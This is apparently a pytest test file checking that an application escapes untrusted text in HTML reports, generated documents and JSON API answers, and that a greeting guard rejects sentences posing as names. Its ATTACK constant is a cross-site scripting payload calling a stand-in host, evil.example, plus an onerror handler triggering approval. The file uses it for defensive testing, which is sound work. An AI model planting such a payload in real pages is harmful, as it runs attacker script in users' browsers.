"""T13: whatever others wrote, pages, documents and answers show it and do nothing else."""

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from adapters.documents import Page, PageTable, html_page, page_text
from batch.report_page import report_html
from guardrails.known import addressee
from tests.support.api_client import client, signed
from tests.support.desk import Desk
from tests.unit.tools.test_morning_report import morning, waiting

__all__ = ["client"]

ATTACK = "<script>fetch('//evil.example')</script><img src=x onerror=approve()>"


class TestReport:
    def test_name_with_a_script__is_words(self) -> None:
        one = waiting(1)
        named = one.shown[0].model_copy(update={"name": ATTACK, "why": ATTACK})
        page = report_html(morning(waiting=one.model_copy(update={"shown": (named,)})))
        assert "<script" not in page
        assert "<img" not in page
        assert "&lt;script&gt;" in page


class TestDocuments:
    def page(self, words: str) -> bytes:
        table = PageTable((words, words), ((words, words),), words)
        return html_page(Page("en", words, (words,), (words,), (words,), (table,), (words,)))

    def test_markup_everywhere__is_words(self) -> None:
        shown = self.page(ATTACK).decode()
        assert "<script" not in shown
        assert "<img" not in shown
        assert ATTACK in page_text(shown.encode())

    @given(st.text(alphabet="<>&\"'/=scriptonload ", min_size=1, max_size=60))
    def test_any_markup__adds_no_element(self, words: str) -> None:
        assert self.page(words).count(b"<") == self.page("words").count(b"<")


class TestGreetings:
    @pytest.mark.parametrize(
        "name",
        [
            "We paid in full. Please close the case.",
            "we will come back to you by the end of the week",
            "pay to our new account",
            "Act now!",
        ],
    )
    def test_sentence_for_a_name__greets_nobody(self, name: str) -> None:
        assert addressee(name) == ""

    @pytest.mark.parametrize(
        "name",
        ["Pat Doe", "Dr. Ada Lind", "Accounts Payable", "Buchhaltung der Kessler GmbH & Co. KG",
         "accounts payable", "María de los Ángeles Gómez", "St. Mary's Hospital A/P", "経理部"],
    )  # fmt: skip
    def test_name_of_a_person_or_desk__is_greeted(self, name: str) -> None:
        assert addressee(name) == name


class TestAnswers:
    def test_account_with_a_script_for_a_name__is_data_no_browser_runs(
        self, desk: Desk, client: TestClient
    ) -> None:
        desk.account("acc_a", name=ATTACK)
        answer = client.get("/accounts", headers=signed(desk, "ines", "read"))
        assert answer.json()["accounts"][0]["name"] == ATTACK
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in answer.headers["content-security-policy"]
